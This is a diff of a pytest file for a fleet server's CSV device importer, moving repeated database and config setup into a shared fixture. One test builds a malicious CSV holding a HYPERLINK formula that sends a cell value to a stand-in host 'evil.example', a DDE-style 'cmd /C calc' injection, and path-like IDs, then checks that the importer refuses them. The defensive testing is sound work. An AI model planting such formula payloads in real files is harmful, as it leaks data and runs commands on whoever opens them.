@@ -19,9 +19,14 @@ from fleet_server.mqtt_accounts import mosquitto_hash
 from tests.server_fixtures import wait_for
 
 
-def _config(tmp_path, service_info, broker) -> str:
-    conf = tmp_path / "server.toml"
-    conf.write_text(f"""
+@pytest.fixture
+def conf(fresh_db, service_info, broker, tmp_path, monkeypatch) -> str:
+    """A server.toml on the session's broker files and this test's own migrated database (the CLI reads its DSN
+    from the environment)."""
+    monkeypatch.setenv("ROADMON_DATABASE_DSN", fresh_db)
+    migrate(fresh_db)
+    path = tmp_path / "server.toml"
+    path.write_text(f"""
 [mqtt]
 port = {service_info.mqtt_port}
 [broker_files]
@@ -31,7 +36,7 @@ pid_file = "{broker.pid_file}"
 [models]
 dir = "{tmp_path / 'models'}"
 """)
-    return str(conf)
+    return str(path)
 
 
 def _can_log_in(host: str, port: int, user: str, password: str) -> bool:
@@ -51,11 +56,7 @@ def _can_log_in(host: str, port: int, user: str, password: str) -> bool:
 
 
 @pytest.mark.services
-def test_import_creates_working_logins_and_a_private_sheet(fresh_db, service_info, broker, tmp_path,
-                                                           monkeypatch) -> None:
-    monkeypatch.setenv("ROADMON_DATABASE_DSN", fresh_db)
-    migrate(fresh_db)
-    conf = _config(tmp_path, service_info, broker)
+def test_import_creates_working_logins_and_a_private_sheet(conf, fresh_db, service_info, broker, tmp_path) -> None:
     tag = secrets.token_hex(3)
     ids = [f"imp-{tag}-{i}" for i in range(25)]
     src = tmp_path / "fleet.csv"
@@ -114,10 +115,7 @@ def test_import_creates_working_logins_and_a_private_sheet(fresh_db, service_inf
 
 
 @pytest.mark.services
-def test_bad_rows_name_their_lines_and_write_nothing(fresh_db, service_info, broker, tmp_path, monkeypatch) -> None:
-    monkeypatch.setenv("ROADMON_DATABASE_DSN", fresh_db)
-    migrate(fresh_db)
-    conf = _config(tmp_path, service_info, broker)
+def test_bad_rows_name_their_lines_and_write_nothing(conf, fresh_db, broker, tmp_path) -> None:
     src = tmp_path / "bad.csv"
     src.write_text("veh-ok-1\nhas space\nveh-ok-2\nroadmon-server\nveh-ok-1\n")
     snapshot = broker.passwd_file.read_text()
@@ -172,11 +170,8 @@ HYPERLINK = '"=HYPERLINK(""http://evil.example/x?p=""&F2,""open manual"")"'  # s
 
 
 @pytest.mark.services
-def test_groups_a_spreadsheet_would_run_and_ids_a_cli_misreads_are_refused(fresh_db, service_info, broker, tmp_path,
-                                                                            monkeypatch) -> None:
-    monkeypatch.setenv("ROADMON_DATABASE_DSN", fresh_db)
-    migrate(fresh_db)
-    conf = _config(tmp_path, service_info, broker)
+def test_groups_a_spreadsheet_would_run_and_ids_a_cli_misreads_are_refused(conf, fresh_db, broker,
+                                                                            tmp_path) -> None:
     src = tmp_path / "evil.csv"
     src.write_text(f"device_id,groups\nveh-ok-1,north\nveh-ok-2,{HYPERLINK}\nveh-ok-3,\"north;@SUM(1+1)*cmd|' /C "
                    "calc'!A0\"\n-veh-9\n..\n.hidden\nveh-ok-4,+1\n")
